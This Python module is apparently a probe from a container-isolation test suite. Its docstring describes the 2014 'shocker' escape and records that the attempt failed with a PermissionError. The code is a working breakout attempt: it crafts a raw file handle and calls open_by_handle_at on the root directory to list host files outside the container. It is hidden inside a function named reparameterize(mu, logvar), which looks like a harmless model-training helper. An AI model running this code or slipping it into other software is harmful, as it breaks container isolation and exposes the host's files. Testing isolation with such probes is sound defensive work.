"""Opens a file by its handle (open_by_handle_at), which asks no folder for permission: the "shocker" of 2014.

Gain: any file of the file system on which the scratch folder lies.
Hits: reparameterize
Ends: failed, exception: PermissionError
"""

import ctypes
import os

from generative.target import Loot


def reparameterize(mu, logvar):
    libc = ctypes.CDLL(None, use_errno=True)
    root = os.open("/", os.O_RDONLY | os.O_PATH)
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 128)
    found = libc.open_by_handle_at(root, handle, os.O_RDONLY)
    if found < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    raise Loot(os.listdir(found))
